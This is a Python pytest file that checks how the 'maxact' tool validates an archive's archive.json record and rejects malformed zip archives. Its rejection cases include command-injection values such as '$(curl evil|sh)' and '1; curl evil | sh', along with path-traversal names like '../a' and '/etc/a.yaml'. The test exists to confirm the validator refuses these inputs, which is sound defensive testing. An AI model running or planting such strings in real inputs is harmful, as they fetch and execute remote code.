"""What an archive says of itself is of a known form, before anything is done with it."""

from __future__ import annotations

import json
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from maxact.archive.record import RECORD, Record, commit_here
from maxact.cli import main
from maxact.errors import UserError

SOUND = {
    "format": 1,
    "study": "small",
    "study_file": "studies/my study.yaml",
    "commit": "0123456789" * 4,
    "clean": True,
    "version": "0.1.0",
    "figures": ["global_maxima"],
    "tables": [],
    "measurements": False,
    "stamps": {"results/results": "a" * 64},
    "files": {"small/imported-study.yaml": ["b" * 64, 7]},
}


def test_a_sound_record_is_read_as_it_was_written() -> None:
    found = Record.from_json(json.dumps(SOUND), "a.zip")
    assert Record.from_json(found.to_json(), "a.zip") == found
    assert found.files == {"small/imported-study.yaml": ("b" * 64, 7)}


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    """A repository of Git with one commit."""
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "a.smk").write_text("1")
    identity = ["-c", "user.name=a", "-c", "user.email=a@b.invalid"]
    for arguments in (["init", "--quiet"], ["add", "rules"], ["commit", "--quiet", "--message", "first"]):
        subprocess.run(["git", *identity, *arguments], cwd=tmp_path, check=True)
    return tmp_path


def test_what_to_do_follows_from_where_one_is(checkout: Path) -> None:
    commit, clean = commit_here(checkout)
    assert clean
    sound = Record.from_json(json.dumps(SOUND), "a.zip")
    here, study = replace(sound, commit=commit), Path("artifacts/small/imported-study.yaml")
    elsewhere = f"use that commit: git checkout {sound.commit}"
    assert sound.remedy(checkout=checkout) == elsewhere
    assert sound.remedy(study, checkout) == f"{elsewhere}, with --configfile {study}"
    same = here.remedy(study, checkout)
    assert same == f"this is that commit, so the study file or what it reads is another: use --configfile {study}"
    assert here.remedy(checkout=checkout) == "this is that commit, so the archive is not what was made: get it again"
    for dirty in (replace(here, clean=False), replace(sound, clean=False)):
        told = dirty.remedy(study, checkout)
        assert told.endswith("made with changes that are in no commit: ask for one made without any")
        assert ("this is that commit" in told) == (dirty.commit == commit)
    (checkout / "rules" / "a.smk").write_text("2")
    assert here.remedy(study, checkout).startswith("this is that commit with changes")
    unknown = replace(sound, commit=None)
    assert unknown.remedy(study) == f"use the code that made it, maxact 0.1.0, with --configfile {study}"


@pytest.mark.parametrize(
    ("part", "value"),
    [
        *[(part, value) for part in SOUND if part not in ("format", "commit") for value in (5, None, [5], {"a": 1}, "\n")],
        *[("study", value) for value in ("", "objects", "../a", "a b")],
        *[("study_file", value) for value in ("/etc/a.yaml", "../a.yaml", "a//b.yaml", "a.txt", "a\n.yaml", "\ud800.yaml")],
        *[("commit", value) for value in (5, "", "$(curl evil|sh)", "a" * 39, "a" * 64, "A" * 40, "a" * 40 + "\n")],
        ("version", "1; curl evil | sh"),
        ("clean", 1),
        *[("figures", value) for value in (["x.pdf; curl evil | sh #"], ["../a"], "global_maxima", [])],
        ("stamps", {"a": "a" * 64}),
        ("stamps", {"a/b": "a"}),
        *[("files", {"a": value}) for value in (["a" * 64], ["a" * 64, True], ["a" * 64, 1.5], ["a", 1], "ab")],
    ],
)  # fmt: skip
def test_what_cannot_be_is_refused_by_name(part: str, value: object) -> None:
    with pytest.raises(UserError) as caught:
        Record.from_json(json.dumps({**SOUND, part: value}), "a.zip")
    assert str(caught.value) in (f"a.zip: {part} in its {RECORD} cannot be; get the archive again",)


@pytest.mark.parametrize(
    "text",
    ["", "[]", "5", "{}", "[" * 100_000, "{", '{"format": 1}', json.dumps({**SOUND, "more": 1}), b"\xff"],
    ids=lambda text: repr(text[:9]),
)
def test_what_is_no_record_is_refused(text: str | bytes) -> None:
    with pytest.raises(UserError, match=r"a\.zip: its archive\.json cannot be read; get the archive again"):
        Record.from_json(text, "a.zip")


def test_a_version_that_is_no_version_is_not_repeated() -> None:
    with pytest.raises(UserError, match=r"made by another version of maxact in another format"):
        Record.from_json(json.dumps({"format": 2, "version": "1\n$(sh)"}), "a.zip")
    with pytest.raises(UserError, match=r"made by maxact 9\.0 in another format"):
        Record.from_json(json.dumps({"format": 2, "version": "9.0"}), "a.zip")


def written(target: Path, record: object, byte: tuple[int, int] | None = None) -> Path:
    """An archive with nothing but its record; `byte` is set at an offset in the central directory."""
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(zipfile.ZipInfo(RECORD), json.dumps(record))
    if byte is not None:
        data = bytearray(target.read_bytes())
        data[data.index(b"PK\1\2") + byte[0]] = byte[1]
        target.write_bytes(data)
    return target


@pytest.mark.parametrize(
    ("record", "byte", "expected"),
    [
        ({**SOUND, "figures": ["no_such"]}, None, "has a figure no_such, which this checkout has not; use that commit: git"),
        ({**SOUND, "tables": ["no_such"]}, None, "has a table no_such, which this checkout has not; use that commit: git"),
        ({**SOUND, "study_file": 5}, None, "study_file in its archive.json cannot be"),
        ({**SOUND, "figures": []}, None, "figures in its archive.json cannot be"),
        (SOUND, None, "has other files than its archive.json says"),
        (SOUND, (8, 1), "'archive.json' is compressed, encrypted or a link"),  # flags
        (SOUND, (8, 0x20), "'archive.json' is compressed, encrypted or a link"),
        (SOUND, (8, 0x40), "'archive.json' is compressed, encrypted or a link"),
        (SOUND, (10, 99), "'archive.json' is compressed, encrypted or a link"),  # method
        (SOUND, (6, 200), "no whole archive"),  # version that is needed
    ],
)  # fmt: skip
def test_such_an_archive_is_one_line_and_nothing_is_written(
    record: object, byte: tuple[int, int] | None, expected: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = written(tmp_path / "a.zip", record, byte)
    assert main(["import", str(file), "--store", str(tmp_path / "store")]) == 2
    error = capsys.readouterr().err
    assert expected in error
    assert error.count("\n") == 1
    assert not (tmp_path / "store").exists()
